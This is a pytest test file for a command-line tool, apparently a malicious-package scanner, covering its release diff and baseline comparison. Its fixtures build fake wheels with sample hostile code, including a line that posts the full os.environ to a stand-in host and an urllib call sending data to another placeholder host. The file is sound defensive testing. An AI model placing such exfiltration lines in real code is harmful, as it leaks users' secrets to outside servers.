"""`antivenom diff` and `--baseline`, from the command line to what people read."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from antivenom.cli import main
from tests.builders import archives

QUIET = "def load(data):\n    return data\n"
TELLS = """import urllib.request


def load(data):
    urllib.request.urlopen("https://stranger.invalid/", data)
    return data
"""


def release(version: str, code: str, **more: str) -> str:
    path = Path(f"demo-{version}-py3-none-any.whl")
    files = {"demo/__init__.py": code, **more}
    path.write_bytes(archives.wheel(files, name="demo", version=version))
    return str(path)


def test_an_ordinary_release_is_clean_and_shows_what_changed(
    capsys: pytest.CaptureFixture[str],
) -> None:
    old, new = release("1.0", QUIET), release("1.1", QUIET.replace("return data", "return [data]"))
    assert main(["diff", old, new]) == 0
    said = capsys.readouterr().out
    assert f"reviews {new} against {old}" in said
    assert "Compared with pkg:pypi/demo@1.0" in said
    assert "return data" in said
    assert "return [data]" in said
    assert len(said.splitlines()) < 24


def test_what_is_new_decides_and_is_shown(capsys: pytest.CaptureFixture[str]) -> None:
    old, new = release("1.0", QUIET), release("1.1", TELLS)
    assert main(["diff", old, new, "--format", "json"]) == 1
    [review] = json.loads(capsys.readouterr().out)["reviews"]
    assert review["verdict"] == "malicious"
    assert review["findings"][0]["change"] == "new"
    place = review["changes"]["places"][0]
    assert (place["member"], place["line"], place["scope"]) == ("demo/__init__.py", 5, "load")
    assert any("stranger" in line["text"] for line in place["after"])
    assert review["changes"]["hosts"] == ["stranger.invalid"]


def test_the_same_payload_in_both_is_the_same_and_still_found(
    capsys: pytest.CaptureFixture[str],
) -> None:
    thief = "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n"
    old, new = release("1.0", thief), release("1.1", thief)
    assert main(["diff", old, new, "--format", "json"]) == 1
    [review] = json.loads(capsys.readouterr().out)["reviews"]
    assert review["verdict"] == "malicious"
    assert {finding["change"] for finding in review["findings"]} == {"same"}
    assert main(["review", new]) == 1


@pytest.mark.parametrize("format", ["text", "json", "jsonl", "sarif", "html"])
def test_every_format_has_it(format: str, capsys: pytest.CaptureFixture[str]) -> None:
    code = TELLS.replace("data)", 'data)  # <b>"bold"</b>\u202e')
    old, new = release("1.0", QUIET), release("1.1", code)
    assert main(["diff", old, new, "--format", format]) == 1
    said = capsys.readouterr().out
    assert "stranger" in said
    assert "\u202e" not in said
    if format == "html":
        assert "Since the previous release" in said
        assert "<b>&" not in said
        assert '<b>"' not in said


def test_two_folders(capsys: pytest.CaptureFixture[str]) -> None:
    for name, code in (("old", QUIET), ("new", TELLS)):
        Path(name, "demo").mkdir(parents=True)
        Path(name, "demo", "__init__.py").write_text(code)
        Path(name, "setup.py").write_text("from setuptools import setup\nsetup(name='demo')\n")
    assert main(["diff", "old", "new", "--format", "json"]) == 1
    [review] = json.loads(capsys.readouterr().out)["reviews"]
    assert review["changes"]["baseline"]
    assert review["changes"]["places"][0]["member"] == "demo/__init__.py"


def test_a_baseline_file_and_none(capsys: pytest.CaptureFixture[str]) -> None:
    old, new = release("1.0", QUIET), release("1.1", TELLS)
    assert main(["review", new]) == 0
    assert main(["review", new, "--baseline", old]) == 1
    assert main(["review", new, "--baseline", "none"]) == 0
    assert "compared" not in capsys.readouterr().out.splitlines()[-1]


def test_a_clean_review_says_what_it_was_compared_with(capsys: pytest.CaptureFixture[str]) -> None:
    old, new = release("1.0", QUIET), release("1.1", QUIET)
    assert main(["review", new, "--baseline", old]) == 0
    assert "compared with 1.0" in capsys.readouterr().out


def test_another_project_is_said(capsys: pytest.CaptureFixture[str]) -> None:
    new = release("1.1", QUIET)
    other = Path("other-1.0-py3-none-any.whl")
    other.write_bytes(archives.wheel({"other.py": "x = 1\n"}, name="other"))
    assert main(["diff", str(other), new]) == 0
    assert "compared with another project: other 1.0" in capsys.readouterr().out


def test_a_broken_predecessor_costs_the_comparison_alone(
    capsys: pytest.CaptureFixture[str],
) -> None:
    new = release("1.1", QUIET)
    Path("demo-1.0-py3-none-any.whl").write_bytes(b"PK\x03\x04 broken")
    assert main(["diff", "demo-1.0-py3-none-any.whl", new]) == 0
    said = capsys.readouterr().out
    assert "not read completely" in said or "could not be read" in said


@pytest.mark.parametrize(
    "arguments",
    [
        ["diff", "missing.whl", "demo-1.1-py3-none-any.whl"],
        ["diff", "demo-1.1-py3-none-any.whl", "missing.whl"],
        ["diff", "-", "demo-1.1-py3-none-any.whl"],
        ["review", "demo-1.1-py3-none-any.whl", "--baseline", "missing.whl"],
    ],
)
def test_what_is_not_there_is_status_two(arguments: list[str]) -> None:
    release("1.1", QUIET)
    assert main(arguments) == 2


def test_a_release_by_name_is_compared_with_the_one_before(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.builders.index import serve

    with serve() as fake:
        monkeypatch.setenv("PIP_INDEX_URL", fake.url)
        monkeypatch.setenv("NO_PROXY", "127.0.0.1")
        for version, code in (("1.0", QUIET), ("1.1", TELLS), ("1.2", TELLS)):
            data = archives.wheel({"demo/__init__.py": code}, name="demo", version=version)
            fake.add("demo", f"demo-{version}-py3-none-any.whl", data,
                     uploaded=f"2026-05-0{version[-1]}T10:00:00Z")  # fmt: skip
        assert main(["review", "demo==1.0"]) == 0
        assert "no earlier release" in capsys.readouterr().out
        assert main(["review", "demo==1.1", "--format", "json"]) == 1
        [review] = json.loads(capsys.readouterr().out)["reviews"]
        assert review["context"]["baseline"] == "pkg:pypi/demo@1.0"
        assert main(["diff", "demo==1.0", "demo==1.2"]) == 1
        assert "against demo==1.0 from the index" in capsys.readouterr().out
        assert main(["review", "demo==1.2", "--baseline", "1.0"]) == 1
        capsys.readouterr()
        # Compared with a release that does the same, nothing is new.
        assert main(["review", "demo==1.2", "--offline", "--format", "json"]) == 0
        [review] = json.loads(capsys.readouterr().out)["reviews"]
        assert review["changes"]["observations"] == 0
        assert main(["review", "demo==1.1", "--baseline", "none"]) == 0
